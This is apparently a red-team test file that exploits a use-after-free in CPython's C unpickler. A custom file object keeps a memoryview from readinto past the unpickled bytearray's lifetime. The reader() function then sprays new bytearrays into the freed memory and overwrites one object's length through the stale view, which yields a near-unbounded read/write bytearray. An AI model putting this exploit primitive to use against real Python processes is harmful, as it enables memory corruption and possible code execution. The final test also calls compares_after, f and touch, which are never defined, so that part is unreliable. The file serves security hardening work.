# Red team round 20, sibling: the C unpickler reads a BYTEARRAY8 (or BINBYTES8) payload outside a frame with
# the file's readinto, through PyMemoryView_FromMemory over the new object's storage (no owner). The file
# keeps the view; the bytearray (56 bytes, storage in the 64-byte class) is freed when load returns.
# Closed: pickle.load and Unpickler read their file through _r2e_kernel.CopyingStream (harden_streams).
import io
import pickle

KEPT = []


class File:
    def __init__(self, data):
        self.f = io.BytesIO(data)

    def read(self, n):
        return self.f.read(n)

    def readline(self):
        return self.f.readline()

    def readinto(self, view):
        KEPT.append(view)
        return self.f.readinto(view)


def stale_view():
    pickle.load(File(b"\x80\x05\x96" + (56).to_bytes(8, "little") + bytes(56) + b"."))
    return KEPT.pop()


def reader():
    ba = id(bytearray).to_bytes(8, "little")
    for _ in range(100):
        mv = stale_view()
        keep = []
        for _ in range(2000):
            b = bytearray()
            keep.append(b)
            if bytes(mv[8:16]) == ba and int.from_bytes(mv[0:8], "little") < 10:
                mv[16:24] = (5).to_bytes(8, "little")
                if len(b) == 5:
                    mv[16:24] = (1 << 62).to_bytes(8, "little")
                    return b, mv
                mv[16:24] = bytes(8)
    raise RuntimeError("no reader")


def test_structure():
    mem, mv = reader()
    seen = compares_after(f, 100, mem)
    mv[16:24] = bytes(8)  # the length back to 0: nothing crashes at exit
    touch()
    assert seen == [4], seen
